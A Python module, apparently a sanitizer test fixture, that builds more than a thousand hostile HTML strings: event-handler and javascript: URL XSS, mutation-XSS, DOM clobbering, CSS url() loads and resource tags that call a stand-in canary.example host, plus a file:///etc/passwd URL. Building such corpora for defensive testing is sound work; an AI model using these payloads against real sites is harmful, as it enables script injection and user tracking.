"""More than a thousand hostile pieces of HTML of the kinds that OWASP, ammonia, DOMPurify and mail-privacy lists collect.

Each calls alert() or asks canary.example for something as soon as one browser runs, loads or mutates it.
"""

# ruff: noqa: SIM905 - lists of words read better as words
from __future__ import annotations

from collections.abc import Iterator

CANARY = "https://canary.example/x"
EVENTS = (
    "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch "
    "beforepaste beforetoggle begin blur bounce canplay change click close contentvisibilityautostatechange contextmenu "
    "copy cuechange cut dblclick drag dragend dragenter drop durationchange end ended error finish focus focusin "
    "formdata gotpointercapture hashchange input invalid keydown keypress load loadeddata loadstart message mousedown "
    "mouseenter mousemove mouseover mouseup pageshow paste pause play playing pointerdown pointerenter pointerover "
    "pointerrawupdate popstate progress ratechange readystatechange repeat reset resize scroll scrollend search "
    "securitypolicyviolation seeked select selectionchange show slotchange start storage submit suspend timeupdate "
    "toggle touchstart transitionend transitionrun unload volumechange wheel"
).split()
CARRIERS = (
    "<img src=x on{0}=alert(1)>", "<svg on{0}=alert(1)>", "<body on{0}='alert(1)'>", "<p tabindex=1 on{0}=\"alert(1)\">x</p>",
    "<details open ON{0}\n=\nalert(1)><summary>x</summary></details>",
)  # fmt: skip
SCRIPT_URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " \x01javascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&#58;alert(1)", "javascript:/*--></title>*/alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x/>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:https://canary.example!/",
    "javascript://https://x.example/%0aalert(1)", "blob:https://canary.example/1", "filesystem:https://canary.example/1",
    "\u2028javascript:alert(1)", "javascript\u200b:alert(1)", "about:blank", "ms-its:x", "file:///etc/passwd",
)  # fmt: skip
LINKED = (
    "<a href='{0}'>x</a>", "<area href='{0}'>", "<iframe src='{0}'></iframe>", "<form action='{0}'><input type=submit></form>",
    "<button formaction='{0}'>x</button>", "<object data='{0}'></object>", "<embed src='{0}'>", "<img src='{0}'>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>", "<math href='{0}'>x</math>", "<base href='{0}'>",
    "<meta http-equiv=refresh content='0;url={0}'>",
)  # fmt: skip
LOADING = (
    "<img src={0}>", "<img srcset='{0} 1x'>", "<picture><source srcset={0}><img></picture>", "<video src={0} autoplay></video>",
    "<video poster={0}></video>", "<audio src={0} autoplay></audio>", "<video><track src={0} default></video>", "<input type=image src={0}>",
    "<link rel=stylesheet href={0}>", "<link rel=prefetch href={0}>", "<link rel=preload as=image href={0}>", "<link rel=dns-prefetch href={0}>",
    "<link rel=icon href={0}>", "<link rel=import href={0}>", "<link rel=manifest href={0}>", "<link rel=modulepreload href={0}>",
    "<script src={0}></script>", "<iframe src={0}></iframe>", "<frameset><frame src={0}></frameset>", "<embed src={0}>", "<object data={0}></object>",
    "<object classid={0}></object>", "<applet code={0} archive={0}></applet>", "<body background={0}>", "<table background={0}><tr><td background={0}>x",
    "<svg><image href={0} /></svg>", "<svg><image xlink:href={0} /></svg>", "<svg><use href={0}#a /></svg>", "<svg><filter><feImage href={0} /></filter></svg>",
    "<svg><script href={0}></script></svg>", "<svg><a><animate attributeName=href values={0} /></a></svg>", "<svg><set attributeName=onmouseover to=alert(1) />",
    "<svg><foreignObject><iframe src={0}></iframe></foreignObject></svg>", "<svg><style>@import '{0}';</style></svg>", "<math><mglyph src={0}></math>",
    "<math><maction actiontype='statusline#{0}'>x</maction></math>", "<style>@import '{0}';</style>", "<style>@import url({0});</style>",
    "<style>*{{background:url({0})}}</style>", "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>", "<bgsound src={0}>",
    "<img lowsrc={0} dynsrc={0}>", "<img longdesc={0}>", "<a href=https://x.example ping={0}>x</a>", "<blockquote cite={0}>x</blockquote>",
    "<portal src={0}></portal>", "<fencedframe src={0}></fencedframe>", "<iframe srcdoc='<img src={0}>'></iframe>", "<xml src={0}></xml>",
    "<x-widget><template shadowrootmode=open><img src={0}></template></x-widget>", "<noscript><img src={0}></noscript>", "<image src={0}>",
    "<img/src={0}>", "<img\tsrc\n=\r{0}>", "<img src={0} loading=eager fetchpriority=high>", "<input type=image formaction={0} src={0}>",
    "<menuitem icon={0}>", "<isindex action={0} type=image src={0}>", "<layer src={0}></layer>", "<ilayer src={0}></ilayer>", "<basefont face=x src={0}>",
    "<command icon={0}>", "<html manifest={0}>", "<meta http-equiv=Link content='<{0}>; rel=stylesheet'>", "<meta http-equiv=refresh content='0;{0}'>",
)  # fmt: skip
LOADING_PROPERTIES = (
    "background background-image border-image border-image-source content cursor list-style list-style-image mask mask-image "
    "-webkit-mask-image filter backdrop-filter clip-path shape-outside src font behavior -moz-binding offset-path "
    "mask-border-source -webkit-border-image fill stroke marker-start image-rendering scrollbar-track --x color width"
).split()
URL_VALUES = (
    "url({0})", "url('{0}')", "u\\72l({0})", "\\75 rl({0})", "/**/url({0})", "url/**/({0})", "image({0})", "image-set('{0}' 1x)",
    "-webkit-image-set(url({0}) 1x)", "cross-fade(url({0}),url({0}),50%)", "URL(&#34;{0}&#34;)", "red;x:url({0})", "var(--x,url({0}))",
    "paint(x)", "expression(alert(1))", "element(#x)", "attr(title url)", "src('{0}')",
)  # fmt: skip
OVERLAYS = (
    "position:fixed;inset:0", "position:absolute;top:0;left:0", "position:sticky;top:0", "margin:-9999px", "margin-left:-50vw",
    "z-index:2147483647", "transform:scale(99)", "translate:-99px", "pointer-events:auto;position:fixed", "inset:0", "top:-5px;position:relative",
    "width:calc(100vw*9)", "content-visibility:auto", "animation:x 1s", "transition:all 9s", "zoom:99", "scale:99", "offset:path('M0 0')",
    "-webkit-app-region:drag", "clip:rect(0,0,0,0);position:absolute", "float:left;margin:0 -99999px 0 0",
)  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><style><!--</style><img src onerror=alert(1)>--></style></math>",
    "<svg><desc><table><thead><s></table></s><table><thead><s></table></s><style></desc><img src onerror=alert(1)></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<plaintext><p title=\"</plaintext><img src=x onerror=alert(1)>\">", "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>", "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![if !IE]><img src=x onerror=alert(1)><![endif]>",
    "<?xml version=1.0?><img src=x onerror=alert(1)>", "<?import namespace=t implementation=#default#time2>", "<!DOCTYPE x [<!ENTITY y 'z'>]><p>&y;",
    "<%<img src=x onerror=alert(1)>%>", "</ <img src=x onerror=alert(1)>", "<//img src=x onerror=alert(1)>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script >", "<script\x0c>alert(1)</script>", "<sc\x00ript>alert(1)</script>",
    "<img \x00src=x on\x00error=alert(1)>", "<img src='x'onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img alt=\"`><img src=x onerror=alert(1)>`\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<a href=\"x\"\"onmouseover=\"alert(1)\">x</a>", "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>", "<p title='</p><script>alert(1)</script>'>x</p>", "<p dir='\"><script>alert(1)</script>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<ſcript>alert(1)</ſcript>", "<ıframe src=javascript:alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><discard onbegin=alert(1)>", "<svg><set onbegin=alert(1)>", "<svg><animatetransform onbegin=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<object><param name=movie value=javascript:alert(1)></object>", "<keygen autofocus onfocus=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>", "<textarea autofocus onfocus=alert(1)></textarea>", "<isindex type=image src=1 onerror=alert(1)>",
    "<a id=getElementById name=cookie class=btn href=https://x.example>x</a>", "<img name=body id=attributes>", "<form id=forms name=parentNode><input name=innerHTML></form>",
    "<img id=documentElement class=mw-shell>", "<p id=alert class='toast show' hx-get=/settings/ hx-trigger=load data-hx-post=/accounts/logout/>x</p>",
    "<div hx-on::load=alert(1) hx-vals='js:{x:alert(1)}' data-remote-src=https://canary.example/x>x</div>", "<img data-remote-src='javascript:alert(1)' data-cid=x>",
    "<slot name=x></slot>", "<dialog open>over</dialog>", "<p popover id=x>x</p><button popovertarget=x>x</button>", "<details class=quoted open><summary>forged</summary>x</details>",
    "<p contenteditable autofocus accesskey=x draggable=true inert is=x-y itemscope part=x slot=y nonce=z>x</p>", "<p style='color:red' style='position:fixed'>x</p>",
    "<svg><use xlink:href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x'></use></svg>", "<embed code=https://canary.example/x allowscriptaccess=always>",
    "<template><script>alert(1)</script></template>", "<template><template><img src=x onerror=alert(1)></template></template>",
    "<div><template shadowrootmode=closed><script>alert(1)</script></template></div>", "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script>",
    "<ruby><rtc><style></ruby><img src=x onerror=alert(1)>", "<table><tr><td><form><table></form><img src=x onerror=alert(1)>", "<b><p><b><p><style></b><img src=x onerror=alert(1)>",
    "<dl><dt><svg><style></dt><img src=x onerror=alert(1)>", "<svg><foreignobject><math><mi><style></foreignobject><img src=x onerror=alert(1)>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    yield from (carrier.format(event) for event in EVENTS for carrier in CARRIERS)
    yield from (form.format(url) for url in SCRIPT_URLS for form in LINKED)
    yield from (form.format(CANARY) for form in LOADING)
    for name in LOADING_PROPERTIES:
        yield from (f'<div style="{name}:{value.format(CANARY).replace(chr(34), "")}">x</div>' for value in URL_VALUES)
    yield from (f"<div style='{style}'>x</div>" for style in OVERLAYS)
    yield from MUTATIONS


PAYLOADS = tuple(dict.fromkeys(payloads()))
